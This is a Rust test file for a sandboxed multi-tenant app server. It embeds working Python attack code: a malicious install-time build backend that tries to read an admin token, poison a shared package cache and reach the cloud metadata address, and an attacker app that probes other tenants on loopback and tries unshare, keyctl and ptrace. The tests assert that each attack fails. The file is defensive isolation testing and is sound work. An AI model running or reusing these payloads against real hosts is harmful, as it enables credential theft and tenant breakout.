//! Attacks on the host and on other tenants from code a user uploads, through a real server
//! with real sandboxes (`../shared/design/isolation.md`): a PEP 517 build backend that runs at
//! install time, an instance that scans loopback for another tenant's app and the q8s API and
//! listens on the host, the host uid its processes run as, and the syscalls a web app never
//! needs. Each test performs the attack and asserts that it fails.

mod common;

use std::path::Path;
use std::time::Duration;

use common::{PROBE, TestServer, pids_of};
use reqwest::StatusCode;
use serde_json::Value;

const START: Duration = Duration::from_secs(180);

fn write_manifest(dir: &Path, name: &str, module: &str) {
    std::fs::write(
        dir.join("q-app.toml"),
        format!(
            r#"[App]
Name = "{name}"
Version = "1.0.0"
Title = "Attack"
Description = "Tries what no tenant may do."
Category = "Other"
Keywords = ["test"]

[Runtime]
Module = "{module}"
"#
        ),
    )
    .unwrap();
}

/// Imports the folder as `token`'s app and launches it; returns the instance id.
async fn import_and_launch(server: &TestServer, token: &str, folder: &Path) -> String {
    let (_out, bundle) = common::bundle_dir(folder);
    let (status, app) = server.import(token, &bundle, "PRIVATE").await;
    assert_eq!(status, StatusCode::CREATED, "{app}");
    let (status, instance) = server
        .launch(token, app["id"].as_str().unwrap(), "PRIVATE")
        .await;
    assert_eq!(status, StatusCode::CREATED, "{instance}");
    instance["id"].as_str().unwrap().to_owned()
}

async fn instance_log(server: &TestServer, token: &str, id: &str) -> String {
    let r = server
        .client
        .get(server.api(&format!("/instances/{id}/logs")))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    r.text().await.unwrap()
}

/// GET through the proxy as `token`, as JSON.
async fn get(server: &TestServer, token: &str, id: &str, path: &str) -> Value {
    let r = server
        .instance_client(id)
        .get(format!("http://{id}.localhost:{}{path}", server.port))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{path}");
    r.json().await.unwrap()
}

/// A build backend that, when uv runs it to build `./pkg`, tries to write a marker on the
/// host, read the admin token, plant a file in the data directory, poison the uv cache the
/// server installs every owner's packages from, and reach the network other than the package
/// index (directly, and through the install's proxy to another host and to the cloud metadata
/// address); it prints what it managed and then fails.
fn backend_app(dir: &Path, marker: &Path, data_dir: &Path, uv_cache: &Path) {
    write_manifest(dir, "ai.h2o.q8s.backend", "main");
    std::fs::write(dir.join("main.py"), "print('never started')\n").unwrap();
    std::fs::write(dir.join("requirements.txt"), "./pkg\n").unwrap();
    std::fs::create_dir(dir.join("pkg")).unwrap();
    std::fs::write(
        dir.join("pkg/pyproject.toml"),
        r#"[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "evil"
version = "1.0"
"#,
    )
    .unwrap();
    let backend = format!(
        r#"import os, sys

def attempt(name, action):
    try:
        result = action()
        return name + "-done" + ("=" + result if result else "")
    except Exception as err:
        return name + "-refused(" + type(err).__name__ + ")"

def write(path):
    with open(path, "w") as f:
        f.write("pwned")

def connect_direct():
    import socket
    socket.create_connection(("1.1.1.1", 443), timeout=5).close()

def connect_via_proxy(target):
    import socket, urllib.parse
    proxy = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=5)
    s.sendall(f"CONNECT {{target}} HTTP/1.1\r\nHost: {{target}}\r\n\r\n".encode())
    status = s.recv(200).decode().split("\r\n")[0]
    s.close()
    if " 200 " not in status:
        raise PermissionError(status)
    return "tunnel"

def attack():
    out = [
        attempt("direct", connect_direct),
        attempt("elsewhere", lambda: connect_via_proxy("example.com:443")),
        attempt("metadata", lambda: connect_via_proxy("169.254.169.254:80")),
        attempt("index", lambda: connect_via_proxy("pypi.org:443")),
        attempt("marker", lambda: write({marker:?})),
        attempt("token", lambda: open(os.path.join({data:?}, "admin-token")).read().strip()),
        attempt("plant", lambda: write(os.path.join({data:?}, "planted"))),
        attempt("cache", lambda: write(os.path.join({cache:?}, "POISON"))),
    ]
    print("BACKEND-RAN " + " ".join(out), file=sys.stderr, flush=True)

attack()

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise RuntimeError("this backend builds nothing")
"#,
        marker = marker.display().to_string(),
        data = data_dir.display().to_string(),
        cache = uv_cache.display().to_string(),
    );
    std::fs::write(dir.join("pkg/backend.py"), backend).unwrap();
}

/// uv's cache directory as the server (same user, same environment) sees it.
fn uv_cache_dir() -> std::path::PathBuf {
    let out = std::process::Command::new("uv")
        .args(["cache", "dir"])
        .output()
        .expect("running uv cache dir");
    std::path::PathBuf::from(String::from_utf8(out.stdout).unwrap().trim())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_backend_runs_inside_a_sandbox() {
    let scratch = tempfile::tempdir().unwrap();
    let marker = scratch.path().join("host-marker");
    let folder = tempfile::tempdir().unwrap();
    let server = TestServer::start().await;
    let uv_cache = uv_cache_dir();
    backend_app(folder.path(), &marker, server.data_dir(), &uv_cache);
    let mallory = server.user_token("mallory", false).await;
    let id = import_and_launch(&server, &mallory, folder.path()).await;
    server.wait_for_status(&mallory, &id, "FAILED", START).await;
    let log = instance_log(&server, &mallory, &id).await;

    assert!(log.contains("BACKEND-RAN"), "the backend never ran: {log}");
    for refused in [
        "marker-refused",
        "token-refused",
        "plant-refused",
        "cache-refused",
        // The network: nothing but the package index, through the server's proxy.
        "direct-refused",
        "elsewhere-refused",
        "metadata-refused",
    ] {
        assert!(log.contains(refused), "no {refused} in: {log}");
    }
    assert!(
        log.contains("index-done=tunnel"),
        "the index is out of reach: {log}"
    );
    assert!(!marker.exists(), "the backend wrote on the host");
    assert!(!server.data_dir().join("planted").exists());
    assert!(!uv_cache.join("POISON").exists(), "the shared uv cache");
    assert!(!log.contains(&server.admin_token), "the admin token leaked");
}

/// An app that reports on its network and on the syscalls it may make.
const ATTACKER: &str = r#"
import ctypes, errno, json, os, platform, socket, sys, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlparse, parse_qs

libc = ctypes.CDLL(None, use_errno=True)
listeners = []

def connect(host, port):
    try:
        with socket.create_connection((host, int(port)), timeout=5):
            return "connected"
    except OSError as err:
        return type(err).__name__

def fetch(host, port, path):
    try:
        with socket.create_connection((host, int(port)), timeout=5) as s:
            s.sendall(f"GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n".encode())
            data = b""
            while len(data) < 100000:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
            return {"result": "connected", "body": data.decode(errors="replace")}
    except OSError as err:
        return {"result": type(err).__name__, "body": ""}

def listen(port):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", int(port)))
        s.listen(8)
        listeners.append(s)
        return "listening"
    except OSError as err:
        return type(err).__name__

def result(ret):
    if ret < 0:
        return errno.errorcode.get(ctypes.get_errno(), "?")
    return "ok"

def in_child(action):
    # A fresh single-threaded process, so that unshare is not refused for threads and a
    # success changes nothing in the app.
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            out = action()
        except Exception as err:
            out = "error " + type(err).__name__
        os.write(w, out.encode())
        os._exit(0)
    os.close(w)
    out = os.read(r, 200).decode()
    os.waitpid(pid, 0)
    os.close(r)
    return out

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
ADD_KEY = {"x86_64": 248, "aarch64": 217}[platform.machine()]
KEYCTL = {"x86_64": 250, "aarch64": 219}[platform.machine()]

def userns_mount():
    step = result(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    if step != "ok":
        return step
    return result(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))

def add_key():
    return result(libc.syscall(ADD_KEY, b"user", b"q8s-probe", b"x", 1, ctypes.c_int(-2)))

def keyctl():
    # KEYCTL_GET_KEYRING_ID, creating the process keyring
    return result(libc.syscall(KEYCTL, 0, ctypes.c_int(-2), 1, 0, 0))

def ptrace_other():
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    out = result(libc.ptrace(16, child, None, None))  # PTRACE_ATTACH
    os.kill(child, 9)
    os.waitpid(child, 0)
    return out

def syscalls():
    return {
        "userns_mount": in_child(userns_mount),
        "unshare_mount": in_child(lambda: result(libc.unshare(CLONE_NEWNS))),
        "add_key": in_child(add_key),
        "keyctl": in_child(keyctl),
        "ptrace": in_child(ptrace_other),
    }

class Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_GET(self):
        url = urlparse(self.path)
        q = {k: v[0] for k, v in parse_qs(url.query).items()}
        if url.path == "/connect":
            body = {"result": connect(q["host"], q["port"])}
        elif url.path == "/fetch":
            body = fetch(q["host"], q["port"], q["path"])
        elif url.path == "/listen":
            body = {"result": listen(q["port"])}
        elif url.path == "/syscalls":
            body = syscalls()
        else:
            body = {"port": os.environ["PORT"], "uid": os.getuid()}
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

if __name__ == "__main__":
    port = int(os.environ["PORT"])
    print(f"attacker listening on {port}", flush=True)
    ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()
"#;

fn attacker_app(dir: &Path) {
    write_manifest(dir, "ai.h2o.q8s.attacker", "attacker");
    std::fs::write(dir.join("attacker.py"), ATTACKER).unwrap();
}

fn victim_app(dir: &Path) {
    write_manifest(dir, "ai.h2o.q8s.victim", "probe");
    std::fs::write(dir.join("probe.py"), PROBE).unwrap();
}

/// The host uids of an instance's processes (bubblewrap, its init, the program).
fn host_uids(id: &str) -> Vec<u32> {
    pids_of(id)
        .into_iter()
        .filter_map(|pid| {
            let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
            let line = status.lines().find_map(|l| l.strip_prefix("Uid:"))?;
            line.split_whitespace().nth(1)?.parse().ok()
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_instance_reaches_no_other_instance_nor_the_api_nor_a_host_port() {
    let server = TestServer::start().await;
    let admin = server.admin_token.clone();
    let victim_dir = tempfile::tempdir().unwrap();
    victim_app(victim_dir.path());
    let victim = import_and_launch(&server, &admin, victim_dir.path()).await;
    let attacker_dir = tempfile::tempdir().unwrap();
    attacker_app(attacker_dir.path());
    let mallory = server.user_token("mallory", false).await;
    let attacker = import_and_launch(&server, &mallory, attacker_dir.path()).await;
    server
        .wait_for_status(&admin, &victim, "RUNNING", START)
        .await;
    server
        .wait_for_status(&mallory, &attacker, "RUNNING", START)
        .await;

    // The victim's port, as its owner sees it: the attacker asks whatever answers there for
    // the victim's environment (its instance id and secrets).
    let victim_port = get(&server, &admin, &victim, "/env").await["PORT"]
        .as_str()
        .unwrap()
        .to_owned();
    let answer = get(
        &server,
        &mallory,
        &attacker,
        &format!("/fetch?host=127.0.0.1&port={victim_port}&path=/env"),
    )
    .await;
    assert!(
        !answer["body"].as_str().unwrap().contains(&victim),
        "the victim's app answered the attacker on 127.0.0.1:{victim_port}: {answer}"
    );
    let api = server.port;
    let answer = get(
        &server,
        &mallory,
        &attacker,
        &format!("/fetch?host=127.0.0.1&port={api}&path=/healthz"),
    )
    .await;
    assert_ne!(answer["result"], "connected", "the q8s API: {answer}");

    // Listening on every interface stays inside the instance.
    let port = common::free_port();
    let answer = get(
        &server,
        &mallory,
        &attacker,
        &format!("/listen?port={port}"),
    )
    .await;
    assert_eq!(answer["result"], "listening", "{answer}");
    assert!(
        tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .is_err(),
        "the instance listens on the host's port {port}"
    );

    // Outbound connections to the internet stay possible by default.
    let answer = get(
        &server,
        &mallory,
        &attacker,
        "/connect?host=pypi.org&port=443",
    )
    .await;
    assert_eq!(answer["result"], "connected", "outbound: {answer}");

    // No process of the instance runs as root or as the server's user on the host.
    let server_uid = unsafe { libc::geteuid() };
    let uids = host_uids(&attacker);
    assert!(!uids.is_empty());
    assert!(
        uids.iter().all(|&uid| uid != 0 && uid != server_uid),
        "host uids {uids:?}"
    );

    // Syscalls a web app never needs are refused.
    let answer = get(&server, &mallory, &attacker, "/syscalls").await;
    for call in [
        "userns_mount",
        "unshare_mount",
        "add_key",
        "keyctl",
        "ptrace",
    ] {
        let result = answer[call].as_str().unwrap_or("missing");
        assert_eq!(result, "EPERM", "{call}: {answer}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outbound_traffic_can_be_switched_off() {
    let server = TestServer::start_with(&["--instance-network", "none"]).await;
    let admin = server.admin_token.clone();
    let folder = tempfile::tempdir().unwrap();
    attacker_app(folder.path());
    let id = import_and_launch(&server, &admin, folder.path()).await;
    server.wait_for_status(&admin, &id, "RUNNING", START).await;
    let answer = get(&server, &admin, &id, "/connect?host=pypi.org&port=443").await;
    assert_ne!(answer["result"], "connected", "{answer}");
    // The proxy still reaches it.
    assert!(get(&server, &admin, &id, "/").await["port"].is_string());
}

#[test]
fn a_data_directory_the_sandbox_user_cannot_reach_is_refused_at_start() {
    if unsafe { libc::geteuid() } != 0 {
        return; // without root, sandboxes run as the server's own user
    }
    use std::os::unix::fs::PermissionsExt;
    let private = tempfile::tempdir().unwrap();
    std::fs::set_permissions(private.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
    let data = private.path().join("data");
    let mut server = std::process::Command::new(env!("CARGO_BIN_EXE_q8s-server"))
        .arg("--listen")
        .arg(format!("127.0.0.1:{}", common::free_port()))
        .arg("--data-dir")
        .arg(&data)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // It must stop at once; one that serves is killed rather than waited for.
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while server.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            server.kill().unwrap();
            panic!("q8s-server started with a data directory the sandbox user cannot reach");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let output = server.wait_with_output().unwrap();
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("cannot pass through")
            && stderr.contains(&*private.path().to_string_lossy()),
        "{stderr}"
    );
}
